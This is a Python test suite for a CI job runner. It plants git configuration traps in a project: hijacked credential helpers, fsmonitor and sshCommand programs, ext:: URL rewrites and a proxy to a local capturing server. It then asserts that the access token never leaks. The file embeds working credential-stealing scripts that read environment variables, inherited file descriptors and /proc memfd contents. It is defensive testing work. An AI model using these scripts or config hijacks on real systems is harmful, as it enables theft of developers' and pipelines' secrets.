"""Traps that a project lays for the credentials, all of which must stay empty."""

import json
import os
import secrets
import signal
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.integration.job_site import HttpHost, Site, git, served
from tests.integration.waiting import gone, wait_until

# Of this process alone: a trap sees the processes of the whole machine.
TOKEN = f"tok-{secrets.token_hex(12)}"
ONE_STAGE = "stages: {one: {cmd: sh one.sh, deps: [one.sh], outs: [one.txt: {cache: false}]}}"
# Keeps all that git lets it read: its environment, what it is told, and every file it inherits.
THIEF = """#!/usr/bin/env python3
import os, select
loot = [repr(os.environ).encode()]
for number in range(3, 100):
    try:
        loot.append(os.read(os.open(f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK), 4096))
    except OSError:
        pass
if select.select([0], [], [], 1)[0]:
    loot.append(os.read(0, 4096))
with open(LOOT, "ab") as file:
    file.write(b" ".join(loot))
raise SystemExit(1)
"""
# Stays, and looks at every file in memory that it can, until one holds the token.
SPY = """
import os, pathlib, time
# At once or not at all: it may be ended at any moment.
pathlib.Path(MARK + ".part").write_text(str(os.getpid()))
os.replace(MARK + ".part", MARK)
token, until = (HALF + OTHER_HALF).encode(), time.monotonic() + 600
while time.monotonic() < until:
    for folder in pathlib.Path("/proc").glob("[0-9]*/fd"):
        try:
            for file in folder.iterdir():
                if "memfd" in os.readlink(file) and token in file.read_bytes():
                    pathlib.Path(LOOT).write_bytes(token)
                    raise SystemExit
        except OSError:
            pass
"""


class Elsewhere(ThreadingHTTPServer):
    """Another host, which asks everybody for a password or sends them on, and keeps what it hears.

    Its connections may be left open by whoever is ended.
    """

    daemon_threads = True

    def __init__(self, status: int = 401, location: str = "") -> None:
        super().__init__(("127.0.0.1", 0), _Asked)
        self.status = status
        self.location = location
        self.heard: list[tuple[str, str]] = []
        """The path and the credentials of every request."""

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Asked(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        shown = self.headers["Authorization"] or self.headers["Proxy-Authorization"] or ""
        self.server.heard.append((self.path, shown))
        self.send_response(self.server.status)
        self.send_header("WWW-Authenticate", 'Basic realm="elsewhere"')
        self.send_header("Content-Length", "0")
        if self.server.location:
            self.send_header("Location", self.server.location)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def listening(status: int = 401, location: str = "") -> Iterator[Elsewhere]:
    with Elsewhere(status, location) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with listening() as server:
        yield server


@pytest.fixture
def host(tmp_path: Path) -> Iterator[HttpHost]:
    with served(tmp_path / "origin", "x-token-auth", TOKEN) as host:
        yield host


@dataclass(frozen=True)
class Thief:
    """A program that keeps what it is given in a file."""

    program: Path
    loot: Path

    @property
    def has_the_token(self) -> bool:
        return self.loot.exists() and TOKEN.encode() in self.loot.read_bytes()


@pytest.fixture
def thief(tmp_path: Path) -> Thief:
    program, loot = tmp_path / "thief", tmp_path / "loot"
    program.write_text(THIEF.replace("LOOT", repr(str(loot))))
    program.chmod(0o755)
    return Thief(program, loot)


Trap = Callable[[HttpHost, Thief, Elsewhere], dict[str, str]]
"""What somebody sets in a repository's configuration."""


def another_address(host: HttpHost, thief: Thief, _: Elsewhere) -> dict[str, str]:
    return {
        "protocol.ext.allow": "always",
        f"url.ext::{thief.program} .insteadOf": host.url,
        f"url.ext::{thief.program} .pushInsteadOf": host.url,
    }


def another_helper(host: HttpHost, thief: Thief, _: Elsewhere) -> dict[str, str]:
    address = f"{host.url}/team/parts.git"
    names = ("credential", f"credential.{host.url}", f"credential.{address}")
    return {f"{name}.helper": str(thief.program) for name in names}


def programs_of_git(_: HttpHost, thief: Thief, __: Elsewhere) -> dict[str, str]:
    names = ("fsmonitor", "sshCommand", "askPass", "gitProxy", "alternateRefsCommand", "pager")
    return {f"core.{name}": str(thief.program) for name in names}


def another_file(_: HttpHost, thief: Thief, __: Elsewhere) -> dict[str, str]:
    included = thief.program.with_name("included")
    included.write_text(f"[credential]\n\thelper = {thief.program}\n")
    return {"include.path": str(included)}


def a_proxy(host: HttpHost, _: Thief, elsewhere: Elsewhere) -> dict[str, str]:
    return {
        "http.proxy": elsewhere.url,
        f"http.{host.url}.proxy": elsewhere.url,
        f"http.{host.url}/team/parts.git.proxy": elsewhere.url,
    }


TRAPS = pytest.mark.parametrize(
    "trap", [another_address, another_helper, programs_of_git, another_file, a_proxy]
)


def settings(trap: dict[str, str], repository: str) -> str:
    lines = [f'git -C {repository} config "{name}" "{value}"\n' for name, value in trap.items()]
    return "".join(lines)


def over_http(project: Site, host: HttpHost, **environment: str) -> Site:
    secret = json.dumps({"kind": "access_token", "token": TOKEN})
    # A job that is caught in a trap tries for as long as it may.
    limit = {"CLOUD_RUNNER_TIMEOUT_SECONDS": "240"}
    return Site(project.root, host.url, {"BITBUCKET_AUTH": secret, **limit, **environment})


@TRAPS
def test_a_repository_that_a_stage_has_put_beside_the_clone_gets_no_credentials(
    tmp_path: Path, host: HttpHost, thief: Thief, elsewhere: Elsewhere, trap: Trap
) -> None:
    planted = "git init -q --bare --template= ../courier.git\n"
    script = planted + settings(trap(host, thief, elsewhere), "../courier.git")
    files = {"dvc.yaml": ONE_STAGE, "one.sh": f"{script}echo 1 > one.txt\n"}
    site = over_http(Site.with_project(tmp_path, files), host)

    job = site.run()

    assert not thief.has_the_token
    assert elsewhere.heard == []
    assert (job.code, job.result[1:]) == (0, ["main"]), job.log
    assert TOKEN not in job.log


@TRAPS
def test_what_a_command_sets_in_the_clone_gets_no_credentials(
    tmp_path: Path, host: HttpHost, thief: Thief, elsewhere: Elsewhere, trap: Trap
) -> None:
    script = settings(trap(host, thief, elsewhere), ".") + "echo 1 > one.txt\n"
    files = {"one.sh": script, "one.txt": "0\n"}
    site = over_http(Site.with_project(tmp_path, files), host, ACME_RUN_COMMAND="sh one.sh")

    job = site.run()

    assert not thief.has_the_token
    assert elsewhere.heard == []
    assert (job.code, job.result[1:]) == (0, ["main"]), job.log
    assert site.show("main:one.txt") == "1"
    assert TOKEN not in job.log


@pytest.fixture
def mark(tmp_path: Path) -> Iterator[Path]:
    """Where the spy writes its process's id; it is ended, however the test ends."""
    mark = tmp_path / "mark"
    yield mark
    if mark.exists():
        with suppress(ProcessLookupError):
            os.kill(int(mark.read_text()), signal.SIGKILL)


@pytest.mark.parametrize("stage", [True, False], ids=["stage", "command"])
def test_what_git_has_started_on_a_traps_behalf_is_ended_before_credentials_are_at_hand(
    tmp_path: Path, host: HttpHost, mark: Path, stage: bool
) -> None:
    loot, spy, trap = (tmp_path / name for name in ("loot", "spy.py", "trap"))
    # The token is in two halves, or the spy's own text would be a finding.
    words = {"OTHER_HALF": TOKEN[8:], "HALF": TOKEN[:8], "MARK": str(mark), "LOOT": str(loot)}
    text = SPY
    for name, value in words.items():
        text = text.replace(name, repr(value))
    spy.write_text(text)
    # It waits for the spy, which so is always faster than git.
    stay = f"setsid python3 {spy} > /dev/null 2>&1 < /dev/null &"
    trap.write_text(f"#!/bin/sh\n{stay}\nwhile ! test -s {mark}; do sleep 0.02; done\nexit 1\n")
    trap.chmod(0o755)
    script = f"git config core.fsmonitor {trap}\necho 1 > one.txt\n"
    files = {"one.sh": script, **({"dvc.yaml": ONE_STAGE} if stage else {"one.txt": "0\n"})}
    environment = {} if stage else {"ACME_RUN_COMMAND": "sh one.sh"}
    site = over_http(Site.with_project(tmp_path, files), host, **environment)

    job = site.run()

    assert not loot.exists()
    assert not mark.exists() or gone(int(mark.read_text()))
    assert (job.code, job.result[1:]) == (0, ["main"]), job.log


def test_the_gateways_address_is_in_no_line_of_the_log(tmp_path: Path, host: HttpHost) -> None:
    seen = tmp_path / "seen"
    script = f"""#!/bin/sh
set -e
git ls-remote --get-url origin > {seen}
cat {seen}
env
echo 1 > one.txt
git add one.txt
git commit --quiet --message "Of the project's own script"
GIT_TRACE=1 GIT_CURL_VERBOSE=1 GIT_TRACE_PACKET=1 git push --verbose origin HEAD:main
git push origin HEAD:refs/heads/other
"""
    files = {"job-run.sh": script, "one.txt": "0\n"}
    project = Site.with_project(tmp_path, files)
    git(project.project, "update-index", "--chmod=+x", "job-run.sh")
    git(project.project, "commit", "--quiet", "--message", "Executable")
    git(project.project, "push", "--quiet", "origin", "main")

    job = over_http(project, host).run()

    assert job.code == 0, job.log
    secret = urlsplit(seen.read_text()).path.split("/")[1]
    assert len(secret) >= 32
    assert "HEAD -> main" in job.log
    assert "other" in project.branches()
    assert secret not in job.log
    assert TOKEN not in job.log


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_an_oauth_consumer_is_not_shown_to_the_host_of_a_redirect(
    tmp_path: Path, elsewhere: Elsewhere, status: int
) -> None:
    project = Site.with_project(tmp_path, {})
    secret = json.dumps({"kind": "oauth", "user": "consumer", "token": TOKEN})
    with listening(status, f"{elsewhere.url}/site/oauth2/access_token") as redirecting:
        site = Site(project.root, redirecting.url, {"BITBUCKET_AUTH": secret})

        started = site.start()
        try:
            log = tmp_path / "log"
            wait_until(
                lambda: (
                    "asking for an OAuth token" in log.read_text() or started.poll() is not None
                ),
                "the job did not say that it has no token",
            )
            started.terminate()
        finally:
            job = site.finished(started)

    assert redirecting.heard[0][1].startswith("Basic ")
    assert [shown for _, shown in elsewhere.heard if shown] == []
    assert TOKEN not in job.log


WITHOUT_MEMORY_FILES = "import os\nif hasattr(os, 'memfd_create'):\n    del os.memfd_create\n"


def test_a_system_without_files_in_memory_runs_jobs_all_the_same(
    tmp_path: Path, host: HttpHost
) -> None:
    """Some Pythons are built for a C library that does not know `memfd_create`."""
    modules = tmp_path / "modules"
    modules.mkdir()
    (modules / "sitecustomize.py").write_text(WITHOUT_MEMORY_FILES)
    script = """python3 -c "import os; print(hasattr(os, 'memfd_create'))" > one.txt\n"""
    files = {"dvc.yaml": ONE_STAGE, "one.sh": script}
    site = over_http(Site.with_project(tmp_path, files), host, PYTHONPATH=str(modules))

    job = site.run()

    assert (job.code, job.result[1:]) == (0, ["main"]), job.log
    assert site.show("main:one.txt") == "False"
    assert TOKEN not in job.log
    assert [path for path in site.temporary.rglob("*") if path.is_file()] == []
